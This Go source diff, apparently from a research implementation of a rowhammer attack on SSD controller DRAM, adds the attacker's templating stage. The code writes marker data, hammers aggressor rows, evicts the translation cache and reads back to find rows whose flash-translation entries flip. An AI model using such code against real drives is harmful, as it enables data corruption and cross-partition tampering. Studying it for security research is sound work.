@@ -1,0 +1,134 @@
+package core
+
+import (
+	"ftlhammer/internal/ftl"
+)
+
+// Templating (§4.2 "hammering stage"): rowhammerability varies with
+// manufacturing, so before the real campaign the attacker tests candidate
+// triples online. Within its own partition it can observe victim rows
+// directly: write known data to the LBAs whose translations live in the
+// candidate victim row, hammer the aggressors, and check whether any of
+// those LBAs now reads differently (or errors) — evidence that a
+// translation bit flipped.
+
+// TemplateResult describes one tested triple.
+type TemplateResult struct {
+	Plan HammerPlan
+	// Vulnerable means hammering visibly corrupted a translation.
+	Vulnerable bool
+	// Observation describes what was seen ("data changed", "read
+	// error", "").
+	Observation string
+}
+
+// TemplateOptions tunes the templating pass.
+type TemplateOptions struct {
+	// Pairs is the hammer budget per candidate (default: enough to
+	// exceed the device's threshold four times over at full rate).
+	Pairs int
+	// Hammer carries through pattern options (decoys etc.).
+	Hammer HammerOptions
+}
+
+// Template tests candidate own-partition plans and returns per-triple
+// results, most useful first (vulnerable before invulnerable, preserving
+// order otherwise).
+func (a *Attacker) Template(plans []HammerPlan, opts TemplateOptions) ([]TemplateResult, error) {
+	pairs := opts.Pairs
+	if pairs <= 0 {
+		window := a.Dev.DRAM().Config().RefreshWindow.Seconds()
+		if window == 0 {
+			window = 0.064
+		}
+		pairs = int(a.RequiredRate()*window) * 4
+		if pairs < 1024 {
+			pairs = 1024
+		}
+	}
+	var out []TemplateResult
+	for _, plan := range plans {
+		res, err := a.templateOne(plan, pairs, opts.Hammer)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, res)
+	}
+	// Stable partition: vulnerable first.
+	ordered := make([]TemplateResult, 0, len(out))
+	for _, r := range out {
+		if r.Vulnerable {
+			ordered = append(ordered, r)
+		}
+	}
+	for _, r := range out {
+		if !r.Vulnerable {
+			ordered = append(ordered, r)
+		}
+	}
+	return ordered, nil
+}
+
+// templateOne probes a single candidate triple.
+func (a *Attacker) templateOne(plan HammerPlan, pairs int, hopts HammerOptions) (TemplateResult, error) {
+	res := TemplateResult{Plan: plan}
+	// Only LBAs we own can be written and observed. A flip can strike
+	// any entry in the victim row, so the whole row is armed: each
+	// VictimGlobalLBAs element is the first of 16 entries sharing a
+	// 64-byte DRAM line.
+	var probes []ftl.LBA
+	for _, g := range plan.VictimGlobalLBAs {
+		for k := ftl.LBA(0); k < 16; k++ {
+			lba := g + k
+			if lba >= a.NS.StartLBA && uint64(lba-a.NS.StartLBA) < a.NS.NumLBAs {
+				probes = append(probes, lba-a.NS.StartLBA)
+			}
+		}
+	}
+	if len(probes) == 0 {
+		return res, nil // cross-partition candidate: not directly testable
+	}
+	// Arm the victim row: mapped entries with recognizable data.
+	for _, lba := range probes {
+		for j := range a.buf {
+			a.buf[j] = byte(lba) ^ 0x3C
+		}
+		if err := a.Dev.Write(a.NS, lba, a.buf, a.Path); err != nil {
+			return res, err
+		}
+	}
+	hopts.Pairs = pairs
+	if err := a.Hammer(plan, hopts); err != nil {
+		return res, err
+	}
+	// Probe: any change or error marks the row vulnerable. Behind an FTL
+	// cache the probe itself must evict first, or it would read the
+	// stale cached translation instead of the flipped DRAM entry.
+	evictDelta := ftl.LBA(hopts.CacheEvictLines) * 16
+	for _, lba := range probes {
+		if evictDelta > 0 {
+			// Eviction only; errors from flipped alias entries are noise.
+			_, _ = a.Dev.Read(a.NS, a.aliasLBA(lba, evictDelta), a.buf, a.Path)
+		}
+		mapped, err := a.Dev.Read(a.NS, lba, a.buf, a.Path)
+		if err != nil {
+			res.Vulnerable = true
+			res.Observation = "read error: " + err.Error()
+			return res, nil
+		}
+		if !mapped {
+			res.Vulnerable = true
+			res.Observation = "mapping vanished"
+			return res, nil
+		}
+		want := byte(lba) ^ 0x3C
+		for _, b := range a.buf {
+			if b != want {
+				res.Vulnerable = true
+				res.Observation = "data changed"
+				return res, nil
+			}
+		}
+	}
+	return res, nil
+}
